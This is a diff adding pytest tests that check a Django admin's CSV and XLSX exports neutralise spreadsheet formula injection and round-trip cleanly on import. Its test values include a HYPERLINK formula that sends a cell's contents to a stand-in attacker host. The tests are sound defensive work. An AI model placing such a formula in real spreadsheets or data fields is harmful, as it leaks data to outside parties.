@@ -304,3 +304,84 @@ class TestExport:
         EnterpriseFactory(slug="formula", name_en='=HYPERLINK("http://x")', region=liaoning)
         response = self.export(editor_client, "", CSV)
         assert "=HYPERLINK" not in response.content.decode("utf-8-sig").replace("'=", "")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "＝1",
+    "＋1",
+    "'=already quoted",
+    "'just an apostrophe",
+    "plain text = fine",
+]
+
+
+class TestFormulaSafety:
+    """Exports never let a spreadsheet run a cell, and import back exactly as they were."""
+
+    def export(self, client, file_format):
+        url = admin_url(Enterprise, "export")
+        form = client.get(url).context["form"]
+        data = {name: "on" for name, field in form.fields.items() if field.initial is True}
+        data.update({"resource": "0", "format": file_format})
+        response = client.post(url, data)
+        assert response.status_code == 200
+        return response.content
+
+    @pytest.fixture
+    def firms(self, liaoning, request):
+        values = FORMULAS
+        if getattr(request, "param", CSV) == XLSX:
+            # XML turns a carriage return into a line feed, so XLSX cannot keep one.
+            values = [value for value in FORMULAS if "\r" not in value]
+        return [
+            EnterpriseFactory(
+                slug=f"formula-{n}", name_en=value, summary_zh_hans=value, region=liaoning
+            )
+            for n, value in enumerate(values)
+        ]
+
+    def test_csv_cells_that_would_run_start_with_an_apostrophe(self, editor_client, firms):
+        content = self.export(editor_client, CSV).decode("utf-8-sig")
+        rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(content))}
+        for n, value in enumerate(FORMULAS):
+            cell = rows[f"formula-{n}"]["name_en"]
+            if value[0] in "=+-@\t\r＝＋" or value.startswith("'="):
+                assert cell == "'" + value
+            else:
+                assert cell == value
+            assert cell[0] not in "=+-@\t\r＝＋－＠"
+
+    @pytest.mark.parametrize("firms", [XLSX], indirect=True)
+    def test_xlsx_cells_are_text_never_formulas(self, editor_client, firms):
+        sheet = load_workbook(io.BytesIO(self.export(editor_client, XLSX))).active
+        header = [c.value for c in sheet[1]]
+        column = header.index("name_en")
+        cells = {row[0].value: row[column] for row in sheet.iter_rows(min_row=2)}
+        for firm in firms:
+            assert cells[firm.slug].data_type == "s"
+            assert cells[firm.slug].value == firm.name_en
+
+    @pytest.mark.parametrize(
+        ("firms", "file_format"), [(CSV, CSV), (XLSX, XLSX)], indirect=["firms"]
+    )
+    def test_an_export_with_formulas_imports_back_unchanged(
+        self, editor_client, firms, file_format
+    ):
+        before = sorted(Enterprise.objects.values_list("slug", "name_en", "summary_zh_hans"))
+        content = self.export(editor_client, file_format)
+        name = "export.csv" if file_format == CSV else "export.xlsx"
+        response = preview(
+            editor_client, Enterprise, SimpleUploadedFile(name, content), file_format
+        )
+        result = response.context["result"]
+        assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
+        assert result.totals["skip"] == len(firms)
+        confirm(editor_client, Enterprise, response)
+        after = sorted(Enterprise.objects.values_list("slug", "name_en", "summary_zh_hans"))
+        assert after == before
